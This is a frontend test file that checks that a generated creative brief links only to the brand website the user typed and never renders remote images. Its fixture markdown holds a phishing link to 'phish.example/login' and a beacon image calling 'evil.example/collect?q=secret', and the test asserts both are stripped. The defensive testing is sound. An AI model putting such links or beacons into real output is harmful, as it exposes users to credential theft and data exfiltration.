import { beforeEach, describe, expect, it, vi } from "vitest";
import { act, render, screen, waitFor } from "@testing-library/react";
import { Theme } from "@radix-ui/themes";
import { resetConvexAuthMock } from "@/testing/convexAuthMock";
import { sendBriefCommand } from "../lib/briefCommands";
import { writeTempContent } from "../lib/briefStorage";
import { EMPTY_DRAFT } from "../lib/types";
import { BriefWorkspace } from "./BriefWorkspace";

vi.mock("convex/react", async () => (await import("@/testing/convexAuthMock")).convexReact);
vi.mock(
  "@/lib/deferredConvex/oneOffCalls",
  async () => (await import("@/testing/convexAuthMock")).oneOffCalls,
);

/**
 * 'Use This Strategy' carries the website the user typed to the brief preview, the one site a
 * brief may link to; without it every link is text (ARCHITECTURE 2; issue 12, item 1).
 */

const facts = {
  brand: "Northbound Morning Box",
  audience: "Commuters who take their first cup seriously",
  uniqueSellingPoint: "Roasted this week",
  message: "Your best cup, at your door at dawn",
  tone: "Warm, witty",
};

const content = [
  "# Creative Brief: Northbound",
  "",
  "Order from [our shop](https://northbound.coffee/shop) or [verify](https://phish.example/login).",
  "",
  "![beacon](https://evil.example/collect?q=secret)",
].join("\n");

function renderWorkspace() {
  return render(
    <Theme>
      <BriefWorkspace
        isAdmin={false}
        experimental={null}
        onRequireSignIn={vi.fn()}
        onUpgrade={vi.fn()}
        onOpenStrategist={vi.fn()}
        renderProgress={() => null}
        renderProvider={() => null}
        renderMetadata={() => null}
      />
    </Theme>,
  );
}

const panel = () => screen.getByRole("region", { name: "Generated brief" });

describe("the brief's links", () => {
  beforeEach(() => {
    resetConvexAuthMock();
    localStorage.clear();
    writeTempContent({ ...EMPTY_DRAFT, content });
  });

  it("link only to the site typed in the strategist, and never show a remote image", async () => {
    renderWorkspace();
    await screen.findByText(/Order from/);
    expect(panel().querySelector("a, img")).toBeNull();

    act(() => sendBriefCommand({ type: "fill", facts, brandSite: "northbound.coffee" }));
    const shop = await screen.findByRole("link", { name: "our shop" });
    expect(shop).toHaveAttribute("href", "https://northbound.coffee/shop");
    expect(shop).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(shop).toHaveAttribute("target", "_blank");
    expect(screen.queryByRole("link", { name: "verify" })).not.toBeInTheDocument();
    expect(panel().querySelector("img")).toBeNull();
    expect(panel()).toHaveTextContent("beacon");

    // A strategy used without a website: nothing is clickable again.
    act(() => sendBriefCommand({ type: "fill", facts }));
    await waitFor(() => expect(panel().querySelector("a")).toBeNull());
  });
});
